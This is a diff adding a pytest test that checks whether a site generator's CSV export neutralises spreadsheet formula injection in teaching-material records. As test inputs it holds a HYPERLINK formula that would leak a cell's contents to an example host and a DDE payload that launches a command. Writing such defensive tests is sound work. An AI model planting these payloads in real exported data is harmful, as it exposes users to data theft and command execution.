@@ -137,3 +137,28 @@ def test_people_are_named_by_id_name_and_page(site: Path, name: str) -> None:
         assert person["url"] == f"{SITE_URL}anggota/{person['id']}/"
 
 
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """OWASP's rule for CSV injection: text starting with = + - @ tab or CR gets an apostrophe."""
+    from conftest import copy_project
+
+    from kkg_site.generator import generate
+
+    project = copy_project(tmp_path / "proyek")
+    item = project.data / "materi" / "ipas" / "poster-rantai-makanan.yml"
+    hostile = ['=HYPERLINK("https://contoh.id/?"&A1;"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
+    text = item.read_text(encoding="utf-8")
+    text = text.replace("judul: Poster Rantai Makanan di Sawah", f"judul: '{hostile[0]}'")
+    text = text.replace("kata_kunci: [ekosistem, rantai makanan]", f'kata_kunci: ["{hostile[1]}", "{hostile[2]}", "{hostile[3]}"]')
+    item.write_text(text, encoding="utf-8")
+
+    output = generate(project.data, TODAY)
+    table = next(f.content for f in output.files if f.path == "data/materi.csv")
+    rows = list(csv.DictReader(io.StringIO(table.removeprefix("\ufeff"))))
+    row = next(r for r in rows if r["id"] == "poster-rantai-makanan")
+    assert row["judul"] == "'" + hostile[0]
+    assert row["kata_kunci"] == "'" + "; ".join(hostile[1:])
+    for cells in rows:
+        for value in cells.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
